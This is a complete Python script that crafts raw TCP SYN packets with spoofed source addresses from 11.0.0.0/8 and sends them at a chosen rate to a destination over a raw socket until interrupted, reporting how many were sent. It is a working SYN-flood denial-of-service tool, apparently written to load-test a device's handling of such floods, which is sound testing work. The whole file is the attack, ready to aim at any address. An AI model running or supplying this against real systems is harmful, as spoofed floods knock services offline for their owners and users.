#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""SYNs with sources that do not exist: flood.py DEVICE ROUTER_MAC DESTINATION RATE, until it is interrupted.

RATE SYNs a second from 16,384 addresses of 11.0.0.0/8. What the device does not take is sent later; on SIGINT the number
that was sent and the seconds that it took are printed.
"""
import random
import signal
import socket
import struct
import sys
import time

BATCH = 64


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def syn(ethernet, source, destination, port):
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, destination)
    tcp = struct.pack(">HHIIBBHHH", port, 80, random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
    pseudo = source + destination + struct.pack(">HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    return ethernet + ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + tcp


def main():
    device, mac, destination, rate = sys.argv[1:]
    rate, destination = float(rate), socket.inet_aton(destination)
    out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    out.bind((device, 0))
    ethernet = bytes.fromhex(mac.replace(":", "")) + out.getsockname()[4] + b"\x08\x00"
    frames = [syn(ethernet, bytes((11, *random.randbytes(3))), destination, random.randrange(1024, 65536))
              for _ in range(16384)]
    ended = []
    signal.signal(signal.SIGINT, lambda *_: ended.append(1))
    print("ready", flush=True)
    sent, start = 0, time.monotonic()
    while not ended:
        ahead = sent / rate - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)
        for _ in range(BATCH):
            try:
                out.send(frames[sent % len(frames)])
            except OSError:
                break  # the device's queue is full
            sent += 1
    print(sent, f"{time.monotonic() - start:.3f}")


if __name__ == "__main__":
    main()
